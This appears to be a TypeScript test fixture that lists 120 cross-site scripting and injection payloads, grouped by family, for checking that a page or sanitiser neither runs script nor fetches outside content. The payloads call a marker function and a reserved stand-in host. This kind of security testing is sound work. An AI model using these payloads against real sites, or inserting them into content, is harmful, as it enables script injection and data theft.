import { fullCounts } from '#tests/full-counts.ts';

/** One text that would run a script, or fetch something, where a text is taken for more than a text. */
export interface ScriptPayload {
  /** Position in the table, from 1; names the payload in a failure. */
  readonly id: number;
  readonly family: string;
  readonly text: string;
}

/** Name of the function that payloads call. A page that is watched has one that keeps the calls. */
export const payloadCall = 'payloadRan';

/** Host that payloads try to reach. The name is reserved, so no server has it. */
export const payloadHost = 'leak.invalid';

const families: Readonly<Record<string, readonly string[]>> = {
  'script elements': [
    '<script>payloadRan(1)</script>',
    '<SCRIPT>payloadRan(2)</SCRIPT>',
    '<script src=//leak.invalid/3.js></script>',
    '<script src="https://leak.invalid/4.js" async></script>',
    '<script type=module>payloadRan(5)</script>',
    '<script>/*6*/',
    '</script><script>payloadRan(7)</script>',
    '</title><script>payloadRan(8)</script>',
    '</textarea><script>payloadRan(9)</script>',
    '</style><script>payloadRan(10)</script>',
    '--><script>payloadRan(11)</script><!--',
    ']]><script>payloadRan(12)</script>',
    '<scr<script>ipt>payloadRan(13)</scr</script>ipt>',
    '<script/x>payloadRan(14)</script>',
    '<script\u00a0>payloadRan(15)</script>',
    '<script type="importmap">{"imports":{"react":"//leak.invalid/16"}}</script>',
  ],
  'event handlers': [
    '<img src=x onerror=payloadRan(17)>',
    '<img src=x onerror="payloadRan(18)"/>',
    '<IMG SRC=x OnErRoR=payloadRan(19)>',
    '<body onload=payloadRan(20)>',
    '<video><source onerror=payloadRan(21)></video>',
    '<audio src=x onerror=payloadRan(22)></audio>',
    '<input autofocus onfocus=payloadRan(23)>',
    '<select autofocus onfocus=payloadRan(24)>',
    '<textarea autofocus onfocus=payloadRan(25)>',
    '<details open ontoggle=payloadRan(26)>',
    '<div tabindex=1 autofocus onfocusin=payloadRan(27)>',
    '<p onmouseover=payloadRan(28)>here</p>',
    '<a onpointerenter=payloadRan(29)>here</a>',
    '<marquee onstart=payloadRan(30)>here</marquee>',
    '<style onload=payloadRan(31)></style>',
    '<link rel=stylesheet href=/ onload=payloadRan(32)>',
    '<div style="animation:x 1s" onanimationstart=payloadRan(33)>',
    '<button popovertarget=p>x</button><i popover id=p onbeforetoggle=payloadRan(34)>',
    '<object data=x onerror=payloadRan(35)></object>',
    '<x oncontentvisibilityautostatechange=payloadRan(36) style=content-visibility:auto>',
    '<form onformdata=payloadRan(37)><button autofocus>x</button></form>',
    '<img/src=x/onerror=payloadRan(38)//',
  ],
  'drawings and formulas': [
    '<svg onload=payloadRan(39)>',
    '<svg><script>payloadRan(40)</script></svg>',
    '<svg><animate onbegin=payloadRan(41) attributeName=x dur=1s>',
    '<svg><a href="javascript:payloadRan(42)"><text y=20>here</text></a></svg>',
    '<svg><use href="//leak.invalid/43.svg#x"></use></svg>',
    '<svg><image href="//leak.invalid/44.png"></image></svg>',
    '<svg><foreignObject><img src=x onerror=payloadRan(45)></foreignObject></svg>',
    '<svg><set attributeName=href to="javascript:payloadRan(46)">',
    '<svg><style>@import "//leak.invalid/47.css"</style></svg>',
    '<math href="javascript:payloadRan(48)">here</math>',
    '<math><mtext><table><mglyph><style><img src=x onerror=payloadRan(49)>',
    '<svg><desc><![CDATA[</desc><script>payloadRan(50)</script>]]></svg>',
  ],
  addresses: [
    'javascript:payloadRan(51)',
    'JaVaScRiPt:payloadRan(52)',
    'java\tscript:payloadRan(53)',
    ' javascript:payloadRan(54)',
    '\u0001javascript:payloadRan(55)',
    'vbscript:payloadRan(56)',
    'data:text/html,<script>payloadRan(57)</script>',
    'data:text/html;base64,PHNjcmlwdD5wYXlsb2FkUmFuKDU4KTwvc2NyaXB0Pg==',
    'blob:https://leak.invalid/59',
    'view-source:javascript:payloadRan(60)',
    '//leak.invalid/61',
    '/\\leak.invalid/62',
    'https:leak.invalid/63',
    '[here](javascript:payloadRan(64))',
    '[here](JAVASCRIPT&colon;payloadRan(65))',
    '[here](data:text/html,payloadRan(66))',
    '[here][a]\n\n[a]: javascript:payloadRan(67)',
    '<javascript:payloadRan(68)>',
    '![x](//leak.invalid/69.png)',
    '![x](x "y" onerror=payloadRan(70))',
    '[here](</\\leak.invalid/71>)',
    '<a href=javascript:payloadRan(72)>here</a>',
    '<a href="&#106;avascript:payloadRan(73)">here</a>',
    '<a href="/" ping="//leak.invalid/74" autofocus>here</a>',
  ],
  'frames, styles and heads': [
    '<iframe src="javascript:payloadRan(75)"></iframe>',
    '<iframe srcdoc="<script>payloadRan(76)</script>"></iframe>',
    '<iframe src="//leak.invalid/77"></iframe>',
    '<embed src="//leak.invalid/78">',
    '<object data="javascript:payloadRan(79)"></object>',
    '<base href="//leak.invalid/80/">',
    '<meta http-equiv=refresh content="0;url=//leak.invalid/81">',
    '<meta http-equiv=refresh content="0;url=javascript:payloadRan(82)">',
    '<link rel=prefetch href="//leak.invalid/83">',
    '<link rel=dns-prefetch href="//leak.invalid/84">',
    '<style>@import url(//leak.invalid/85.css);</style>',
    '<style>*{background:url(//leak.invalid/86.png)}</style>',
    '<p style="background:url(//leak.invalid/87.png)">here</p>',
    '<form action="//leak.invalid/88"><button autofocus>Continue</button></form>',
    '<input type=image src="//leak.invalid/89.png" formaction="javascript:payloadRan(89)">',
    '<template shadowrootmode=open><img src=x onerror=payloadRan(90)></template>',
    '<portal src="//leak.invalid/91"></portal>',
    '<noscript><p title="</noscript><img src=x onerror=payloadRan(92)>">',
  ],
  'attributes left': [
    '" onmouseover="payloadRan(93)" x="',
    "' onmouseover='payloadRan(94)' x='",
    '" autofocus onfocus=payloadRan(95) x="',
    '"><script>payloadRan(96)</script>',
    "'><img src=x onerror=payloadRan(97)>",
    '` onerror=`payloadRan(98)`',
    '"/><svg/onload=payloadRan(99)>',
    '" style="background:url(//leak.invalid/100.png)',
    '"></a><a href="javascript:payloadRan(101)">',
    'x" srcdoc="<script>payloadRan(102)</script>',
  ],
  'code in texts': [
    '{{constructor.constructor("payloadRan(103)")()}}',
    '${payloadRan(104)}',
    '#{payloadRan(105)}',
    '<%= payloadRan(106) %>',
    '{payloadRan(107)}',
    "');payloadRan(108);//",
    '\\");payloadRan(109);//',
    "';payloadRan(110);'",
    '{"__html":"<img src=x onerror=payloadRan(111)>"}',
    '\u2028payloadRan(112)//',
  ],
  disguises: [
    '&lt;script&gt;payloadRan(113)&lt;/script&gt;',
    '&#60;img src=x onerror=payloadRan(114)&#62;',
    '%3Cscript%3EpayloadRan(115)%3C/script%3E',
    '\\u003cscript\\u003epayloadRan(116)\\u003c/script\\u003e',
    '+ADw-script+AD4-payloadRan(117)+ADw-/script+AD4-',
    '\uff1cscript\uff1epayloadRan(118)\uff1c/script\uff1e',
    '<\u0000script>payloadRan(119)</script>',
    '\u202e<img src=x onerror=payloadRan(120)>',
  ],
};

/** The 120 payloads of the campaign, in the order of their families. */
export const scriptPayloads: readonly ScriptPayload[] = Object.entries(families)
  .flatMap(([family, texts]) => texts.map((text) => ({ family, text })))
  .map((payload, index) => ({ id: index + 1, ...payload }));

/** All of them when counts are full, else every `step`-th, which goes through the families. */
export function payloadsFor(step: number): readonly ScriptPayload[] {
  return fullCounts ? scriptPayloads : scriptPayloads.filter(({ id }) => id % step === 1);
}
